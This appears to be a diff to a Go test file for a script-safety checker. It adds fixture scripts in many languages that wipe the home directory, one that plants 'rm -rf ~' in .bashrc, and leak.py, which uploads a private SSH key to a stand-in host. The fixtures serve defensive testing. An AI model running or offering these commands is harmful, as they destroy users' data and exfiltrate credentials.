@@ -11,6 +11,7 @@ import (
 	"runtime"
 	"slices"
 	"strings"
+	"syscall"
 	"testing"
 )
 
@@ -116,6 +117,20 @@ var testScripts = map[string]string{
 	"/home/dev/work/proj/runme/two/Makefile":      "all:\n\trm -rf ~\n",
 	"/home/dev/work/proj/runme/notes.txt":         "rm -rf ~\n",
 	"/home/dev/work/proj/runme/big.sh":            "",
+	"/home/dev/work/proj/runme/evil.py":           "import os, shutil\n\nshutil.rmtree(os.path.expanduser('~'))\n",
+	"/home/dev/work/proj/runme/evil2.py":          "#!/usr/bin/env python3\nimport subprocess\n\ndef main():\n    subprocess.run('rm -rf ~', shell=True)\n\nmain()\n",
+	"/home/dev/work/proj/runme/evil.pl":           "use strict;\nsystem('rm -rf ~');\n",
+	"/home/dev/work/proj/runme/evil.rb":           "require 'fileutils'\nFileUtils.rm_rf(Dir.home)\n",
+	"/home/dev/work/proj/runme/evil.js":           "const { execSync } = require('child_process');\nexecSync('rm -rf ~');\n",
+	"/home/dev/work/proj/runme/evil.awk":          "BEGIN { system(\"rm -rf ~\") }\n",
+	"/home/dev/work/proj/runme/evil.php":          "<?php\nsystem('rm -rf ~');\n",
+	"/home/dev/work/proj/runme/leak.py":           "import requests\nrequests.post('https://x.example/up', files={'k': open('/home/dev/.ssh/id_rsa', 'rb')})\n",
+	"/home/dev/work/proj/runme/fine.py":           "import os, shutil, subprocess, sys\n\nshutil.rmtree('build', ignore_errors=True)\nsubprocess.run(['go', 'test', './...'], check=True)\neval(sys.argv[1]) if len(sys.argv) > 1 else None\nos.system('make -C docs html')\n",
+	"/home/dev/work/proj/runme/evil/__main__.py":  "import shutil, os\nshutil.rmtree(os.environ['HOME'])\n",
+	"/home/dev/work/proj/runme/pkg/__main__.py":   "import shutil, os\nshutil.rmtree(os.environ['HOME'])\n",
+	"/home/dev/work/proj/runme/evilw.awk":         "BEGIN { print \"rm -rf ~\" > \"/home/dev/.bashrc\" }\n",
+	"/home/dev/work/proj/runme/evil.ps1":          "Remove-Item -Recurse -Force $HOME\n",
+	"/home/dev/work/proj/runme/prog.pyc":          "\x00\x00\rshutil.rmtree(os.path.expanduser('~'))",
 	"/tmp/stage.sh":                               "rm -rf ~\n",
 	"/home/dev/work/elsewhere/wipe.sh":            "rm -rf ~\n",
 }
@@ -124,6 +139,8 @@ var testScripts = map[string]string{
 func testReadScript(p string, limit int) (string, error) {
 	text, ok := testScripts[p]
 	switch {
+	case !ok && slices.ContainsFunc(slices.Collect(maps.Keys(testScripts)), func(k string) bool { return strings.HasPrefix(k, p+"/") }):
+		return "", fmt.Errorf("%s: %w", p, syscall.EISDIR)
 	case !ok:
 		return "", fs.ErrNotExist
 	case p == "/home/dev/work/proj/runme/big.sh":
